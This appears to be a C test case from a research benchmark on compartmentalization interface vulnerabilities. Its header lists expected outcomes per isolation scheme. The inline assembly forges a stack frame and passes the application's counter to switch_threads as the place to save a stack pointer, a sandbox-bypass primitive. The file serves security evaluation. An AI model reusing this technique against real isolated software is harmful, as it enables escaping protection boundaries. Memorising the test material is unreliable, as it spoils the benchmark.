/*
{
  "title": "The application's counter as the place where the switch of threads saves a stack pointer. Contained: it runs with the extension's rights",
  "reference": "Lefeuvre et al., Assessing the Impact of Interface Vulnerabilities in Compartmentalized Software, NDSS 2023; Wahbe et al., Efficient Software-Based Fault Isolation, SOSP 1993",
  "symbols": ["switch_threads"],
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "contained", "event": "exception"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "refused"}
  }
}
*/
#include "attack.h"

static uint64_t frame[16];

int main(void) {
  BYPASS(
      // What switch_threads pops: six registers, and where to go on. RBP has to be there again.
      __asm__ volatile(
          "leaq 1f(%%rip), %%rax\n"
          "movq %%rax, 48(%%rsi)\n"
          "movq %%rbp, 40(%%rsi)\n"
          "movq %%rsp, %%r8\n"
          "call switch_threads@PLT\n"
          "1: movq %%r8, %%rsp"
          : : "D"(&count), "S"(frame) : "rax", "rbx", "r8", "r12", "r13", "r14", "r15", "memory"));
  GOAL_COUNT();
  return 0;
}
